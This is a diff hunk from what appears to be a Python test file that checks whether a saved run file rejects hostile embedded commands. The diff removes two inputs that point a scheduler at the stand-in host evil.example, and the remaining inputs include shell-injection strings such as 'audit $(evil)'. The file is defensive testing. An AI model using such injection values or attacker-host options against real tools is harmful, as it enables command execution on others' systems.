@@ -153,7 +153,6 @@ def command_in_a_run_file(folder: Path) -> Found:
     call("audit", DATA, *COLUMNS, "--save", "run.rpil")
     run = Path("run.rpil").read_bytes()
     hostile = [f"audit x.csv --{name} a" for name in ("report", "save", "keep", "verdicts", "weights", "report=a")]
-    hostile += ["audit x --scheduler tcp://evil.example:8786", "audit x --scheduler=tcp://evil.example:8786"]
     hostile += ["evaluate x.py:f", "keep x -o x", "audit x; evil", "audit $(evil)"]
     lists = archives.members("run.rpil")["header.json"][:-1] + b', "more": [' + b"[]," * MOST_LISTS + b"[]]}"
     for what in (*hostile, "millions of lists"):
